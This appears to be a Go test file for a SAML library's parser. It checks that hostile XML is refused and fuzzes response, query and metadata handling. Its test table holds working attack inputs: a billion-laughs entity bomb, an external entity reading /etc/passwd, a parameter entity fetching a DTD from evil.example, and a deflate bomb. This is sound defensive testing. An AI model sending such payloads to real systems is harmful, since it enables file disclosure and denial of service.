package saml

import (
	"encoding/base64"
	"errors"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/keywright/keywright/core"
)

// laughs is a billion of them.
const laughs = `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]>`

// hostileDocuments are those of SAM20, and others that parsers read differently.
func hostileDocuments(good string) map[string]hostile {
	open := strings.Index(good, ">") + 1
	inside := func(s string) string { return good[:open] + s + good[open:] }
	return map[string]hostile{
		"SAM20 document type":             {`<!DOCTYPE x>` + good, reasonMalformed},
		"SAM20 billion laughs":            {laughs + strings.Replace(good, "mara-7", "&lol2;", 1), reasonMalformed},
		"SAM20 external entity":           {`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>` + strings.Replace(good, "mara-7", "&e;", 1), reasonMalformed},
		"SAM20 parameter entity":          {`<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example/x.dtd"> %e;]>` + good, reasonMalformed},
		"SAM20 entity of nowhere":         {strings.Replace(good, "mara-7", "&admin;", 1), reasonMalformed},
		"SAM20 depth 10 000":              {inside(strings.Repeat("<a>", 10000) + strings.Repeat("</a>", 10000)), reasonSize},
		"SAM20 20 000 attributes":         {inside("<a" + manyAttributes(20000) + "/>"), reasonSize},
		"SAM20 many elements":             {inside(strings.Repeat("<a/>", 20000)), reasonSize},
		"SAM20 5 MB":                      {inside(strings.Repeat(" ", 5<<20)), reasonSize},
		"SAM20 one byte too long":         {inside(strings.Repeat(" ", core.MaxReturnBytes+1-len(good))), reasonSize},
		"SM05 comment":                    {inside("<!-- x -->"), reasonMalformed},
		"SM05 instruction":                {inside("<?php x ?>"), reasonMalformed},
		"SM04 another encoding":           {`<?xml version="1.0" encoding="ISO-8859-1"?>` + good, reasonMalformed},
		"SM04 declaration inside":         {inside(`<?xml version="1.0"?>`), reasonMalformed},
		"SM04 not UTF-8":                  {strings.Replace(good, "mara-7", "ma\xffra", 1), reasonMalformed},
		"SM04 NUL":                        {strings.Replace(good, "mara-7", "mara\x00", 1), reasonMalformed},
		"SAM11 colon in a name":           {inside("<a:b:c/>"), reasonMalformed},
		"SAM11 empty prefix":              {inside("<:a/>"), reasonMalformed},
		"SAM11 attribute twice":           {inside(`<a b="1" b="2"/>`), reasonMalformed},
		"SM04 unclosed":                   {good[:len(good)-5], reasonMalformed},
		"SM04 crossed":                    {inside("<a><b></a></b>"), reasonMalformed},
		"SM04 two roots":                  {good + good, reasonWrapped},
		"SM04 text behind the root":       {good + "x", reasonMalformed},
		"SM04 nothing in it":              {"<x/>", reasonMalformed},
		"SM04 only blanks":                {"   ", reasonMalformed},
		"SM04 a request for an answer":    {`<samlp:AuthnRequest xmlns:samlp="` + nsProtocol + `"/>`, reasonMalformed},
		"SM04 an answer of no namespace":  {`<Response Version="2.0"/>`, reasonMalformed},
		"SM04 an assertion for an answer": {`<saml:Assertion xmlns:saml="` + nsAssertion + `" ID="a1"/>`, reasonMalformed},
		"SM04 prefix of no namespace":     {`<samlp:Response Version="2.0"/>`, reasonMalformed},
	}
}

func manyAttributes(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, ` a%d=""`, i)
	}
	return b.String()
}

func TestSAM20_documents(t *testing.T) {
	for name := range hostileDocuments("<x>mara-7</x>") {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			r := w.ask()
			d := hostileDocuments(w.good(r))[name]
			before := time.Now()
			w.refused(w.bring(r, d.document), d.why)
			if took := time.Since(before); took > time.Second { // 50 ms on a machine that does nothing else
				t.Errorf("took %s", took)
			}
		})
	}
}

// A good answer comes in other clothes too.
func TestSM04_goodDocuments(t *testing.T) {
	for name, dress := range map[string]func(string) string{
		"with a declaration":      func(s string) string { return `<?xml version="1.0" encoding="UTF-8"?>` + "\n" + s },
		"with blanks around":      func(s string) string { return "\n " + s + "\n" },
		"with another prefix":     func(s string) string { return strings.ReplaceAll(s, "samlp:", "p:") },
		"name written as numbers": nil,
		"name in a CDATA section": nil,
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			r := w.ask()
			answer := w.good(r)
			switch name {
			case "with another prefix":
				answer = strings.ReplaceAll(dress(answer), "xmlns:samlp", "xmlns:p")
			case "name written as numbers":
				answer = strings.ReplaceAll(answer, "mara-7", "&#109;ara&#45;7")
			case "name in a CDATA section":
				answer = strings.ReplaceAll(answer, "mara-7", "ma<![CDATA[ra-]]>7")
			default:
				answer = dress(answer)
			}
			if i := w.identified(w.bring(r, answer)); i.Subject != "mara-7" {
				t.Errorf("subject %q", i.Subject)
			}
		})
	}
}

// How the form carries it (SAM28).
func TestSAM28_base64(t *testing.T) {
	for name, test := range map[string]struct {
		encode func(string) string
		why    reason
	}{
		"folded": {func(s string) string {
			b, out := base64.StdEncoding.EncodeToString([]byte(s)), ""
			for len(b) > 76 {
				out, b = out+b[:76]+"\r\n", b[76:]
			}
			return out + b
		}, ""},
		"URL safe": {func(s string) string { return base64.URLEncoding.EncodeToString([]byte(s + "\n<!-- ÿÿÿ -->")) }, reasonMalformed},
		"garbage":  {func(string) string { return "%%%" }, reasonMalformed},
		"empty":    {func(string) string { return "" }, reasonMalformed},
		"long":     {func(string) string { return strings.Repeat("A", 3*core.MaxReturnBytes) }, reasonSize},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			r := w.ask()
			b := brought(r, "")
			b.Values.Set("SAMLResponse", test.encode(w.good(r)))
			if reply := w.begin(b); test.why == "" {
				w.identified(reply)
			} else {
				w.refused(reply, test.why)
			}
		})
	}
	w := newWorld(t)
	r := w.ask()
	b := brought(r, w.good(r))
	b.Values.Add("SAMLResponse", "x")
	w.refused(w.begin(b), reasonMalformed)
}

func TestSM22_inflate(t *testing.T) {
	bomb, err := deflate(make([]byte, 50<<20))
	must(err)
	if len(bomb) > core.MaxReturnBytes*2 {
		t.Fatalf("a bomb of %d bytes", len(bomb))
	}
	var r *refusal
	if _, err = inflate(bomb); !errors.As(err, &r) || r.reason != reasonSize {
		t.Errorf("%v", err)
	}
	if _, err := inflate(base64.StdEncoding.EncodeToString([]byte("not deflated"))); err == nil {
		t.Error("inflated")
	}
	packed, err := deflate([]byte("<x/>"))
	must(err)
	if b, err := inflate(packed); err != nil || string(b) != "<x/>" {
		t.Errorf("%q %v", b, err)
	}
}

// FuzzResponse: no answer, however made, panics or is believed that the identity
// provider has not signed.
func FuzzResponse(f *testing.F) {
	w := newWorld(&testing.T{})
	r := request{element: tree(`<x ID="_1"/>`), relay: "s"}
	good := w.good(r)
	f.Add(good)
	for _, d := range hostileDocuments(good) {
		if len(d.document) < 16<<10 {
			f.Add(d.document)
		}
	}
	for _, wrap := range wrappings() {
		f.Add(flat(wrap(tree(good))))
	}
	known, err := parseMetadata([]byte(w.idp.metadata()), "", nil)
	must(err)
	x := &expected{party: known, service: service{own, acs, slo}, at: noon(), asked: &asked{ID: "_1", State: "s", At: noon()}}
	f.Fuzz(func(t *testing.T, document string) {
		s, err := x.read([]byte(document))
		if err == nil && (s.NameID.Value != "mara-7" || s.Attributes["email"][0] != mara) {
			t.Fatalf("believed %+v", s)
		}
	})
}

// FuzzQuery: what is signed is what is read.
func FuzzQuery(f *testing.F) {
	f.Add("SAMLRequest=a&RelayState=b&SigAlg=c&Signature=d")
	f.Add("SAMLRequest=a&SAMLRequest=b")
	f.Add("%53AMLRequest=a&SigAlg=%zz")
	f.Fuzz(func(t *testing.T, raw string) {
		q, err := splitQuery(raw)
		if err != nil {
			return
		}
		value, err := q.value("SAMLRequest")
		if err != nil {
			return
		}
		all, err := url.ParseQuery(strings.ReplaceAll(raw, ";", "%3B"))
		if err == nil && len(all["SAMLRequest"]) > 0 && all.Get("SAMLRequest") != value {
			t.Fatalf("%q is read as %q and as %q", raw, value, all.Get("SAMLRequest"))
		}
		_, _ = inflate(value)
	})
}

// FuzzMetadata: what is read of it can be used.
func FuzzMetadata(f *testing.F) {
	f.Add(keys().idp.metadata())
	f.Add(keys().idp.sign(keys().idp.metadata()))
	f.Fuzz(func(t *testing.T, document string) {
		p, err := parseMetadata([]byte(document), "", nil)
		if err != nil {
			return
		}
		for _, e := range p.signOn {
			if u, err := url.Parse(e.location); err != nil || u.Scheme != "https" && !loopback(u.Hostname()) {
				t.Fatalf("would send people to %q", e.location)
			}
		}
		if len(p.keys) == 0 || p.entityID == "" {
			t.Fatalf("%+v", p)
		}
	})
}
